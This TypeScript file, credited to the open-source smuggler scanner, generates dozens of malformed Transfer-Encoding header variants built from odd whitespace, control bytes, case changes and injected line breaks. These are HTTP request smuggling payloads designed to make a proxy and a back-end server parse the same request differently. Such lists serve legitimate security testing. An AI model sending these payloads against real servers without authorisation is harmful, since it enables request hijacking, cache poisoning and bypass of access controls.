/** From defparam/smuggler (MIT, see smuggler.LICENSE beside it): header lines, ways to hide a Transfer-Encoding from one of two readers. */
export function* hiddenCodings(): Generator<string> {
  const coding = "Transfer-Encoding: chunked";
  yield* [` ${coding}`, "Transfer-Encoding:\tchunked", "Transfer-Encoding\t:\tchunked", "Transfer Encoding: chunked"];
  yield* ["Transfer_Encoding: chunked", "Transfer Encoding:chunked", "Transfer-Encoding : chunked"];
  yield* [
    "Transfer-Encoding:  chunked",
    "Transfer-Encoding:\x0bchunked",
    `${coding}, cow`,
    "Transfer-Encoding: cow, chunked",
  ];
  yield* ["Content-Encoding: chunked", "Transfer-Encoding:\n chunked", 'Transfer-Encoding: "chunked"'];
  yield* [
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: chunk",
    "TrAnSFer-EnCODinG: cHuNkeD",
    coding.toUpperCase(),
  ];
  yield* [`${coding}\r`, `${coding}\t`, `Transfer-Encoding: cow\r\n${coding}`, "Transfer\r-Encoding: chunked"];
  yield* ["Transfer-Encoding: cow chunked bar", "Transfer-Encoding:\xffchunked", "Transfer-Encoding: ch\x96nked"];
  yield* ["Transf\x82r-Encoding: chunked", `X:X\r${coding}`, `X:X\n${coding}`];
  for (let code = 1; code < 256; code++) {
    if (code > 0x20 && code < 0x7f) continue;
    const byte = String.fromCharCode(code);
    yield* [`Transfer-Encoding:${byte}chunked`, `Transfer-Encoding${byte}: chunked`, byte + coding, coding + byte];
  }
  for (const code of [0x01, 0x04, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1f, 0x20, 0x7f, 0xa0, 0xff]) {
    const byte = String.fromCharCode(code);
    yield* [`X: X${byte}${coding}`, `${coding}${byte}X: X`, `X: X\r${byte}${coding}`, `X: X${byte}\n${coding}`];
    yield* [`${coding}\r${byte}X: X`, `${coding}${byte}\nX: X`];
  }
}
